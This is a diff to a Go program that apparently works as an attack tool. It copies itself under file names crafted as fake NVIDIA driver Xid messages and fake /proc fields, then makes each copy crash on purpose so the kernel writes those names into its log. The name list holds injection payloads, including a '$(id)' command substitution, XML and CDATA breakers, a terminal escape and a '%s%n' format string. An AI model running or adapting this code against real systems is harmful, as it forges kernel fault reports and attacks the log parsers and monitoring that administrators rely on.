@@ -2,12 +2,14 @@ package main
 
 import (
 	"bytes"
+	"errors"
 	"fmt"
 	"os"
 	"os/exec"
 	"path/filepath"
 	"syscall"
 	"time"
+	"unsafe"
 
 	"golang.org/x/sys/unix"
 )
@@ -17,10 +19,18 @@ var names = []string{
 	"NVRM: Xid (PCI:0000:c1:00): 79, pid=1", "x) S 1 1", "a\nUid:\t0\t0\t0\t0", "</process_name>", "<!--", "]]>", "a, 79\n[6]", "\x1b[2J", "%s%n", "user-0.slice", "0::/", "\"", "$(id)", "\xff\xfe",
 }
 
-// crashNames runs programs that crash, with file names in the form of messages of the driver. The kernel prints the
-// name of a program that crashes.
+// crashNames runs copies of this program that crash, with file names in the form of messages of the driver. The kernel
+// prints the name of a program that crashes.
 func crashNames() error {
 	dir, err := os.MkdirTemp("", "crash-")
+	if err != nil {
+		return err
+	}
+	self, err := os.Executable()
+	if err != nil {
+		return err
+	}
+	text, err := os.ReadFile(self)
 	if err != nil {
 		return err
 	}
@@ -29,25 +39,46 @@ func crashNames() error {
 			continue
 		}
 		path := filepath.Join(dir, name)
-		if err := os.Link("/bin/sleep", path); err != nil {
-			text, err := os.ReadFile("/bin/sleep")
-			if err != nil {
-				return err
-			}
-			if err := os.WriteFile(path, text, 0o755); err != nil {
-				return fmt.Errorf("program %d: %w", i, err)
-			}
+		if err := os.WriteFile(path, text, 0o755); err != nil {
+			return fmt.Errorf("program %d: %w", i, err)
+		}
+		// The first one must end by its fault. A copy may fail to start: a fork of another attack may have it open.
+		if state, err := exec.Command(path, "crash").CombinedOutput(); i == 0 && !faulted(err) {
+			return fmt.Errorf("program %d ended with %w: %s", i, err, state)
 		}
 		forever(func() {
-			c := exec.Command(path, "1000")
-			if c.Start() == nil {
-				_ = c.Process.Signal(syscall.SIGSEGV)
-				_ = c.Wait()
-			}
+			_ = exec.Command(path, "crash").Run()
 			time.Sleep(50 * time.Millisecond)
 		})
 	}
 	return nil
+}
+
+func faulted(err error) bool {
+	var exit *exec.ExitError
+	if !errors.As(err, &exit) {
+		return false
+	}
+	status, ok := exit.Sys().(syscall.WaitStatus)
+	return ok && status.Signal() == syscall.SIGSEGV
+}
+
+// nowhere is address 0.
+var nowhere *int
+
+// crash ends this program by a fault. The kernel prints no name of a program that handles the signal, or that gets
+// it from another one.
+func crash() error {
+	if err := unix.Setrlimit(unix.RLIMIT_CORE, &unix.Rlimit{}); err != nil {
+		return err
+	}
+	const setSize = 8
+	byDefault := [4]uintptr{} // struct sigaction of the kernel
+	if _, _, errno := unix.RawSyscall6(unix.SYS_RT_SIGACTION, uintptr(unix.SIGSEGV), uintptr(unsafe.Pointer(&byDefault)), 0, setSize, 0, 0); errno != 0 {
+		return errno
+	}
+	*nowhere = 1
+	return errors.New("a write to address 0 is no fault")
 }
 
 // processNames gives processes names and arguments with syntax of what lists them.
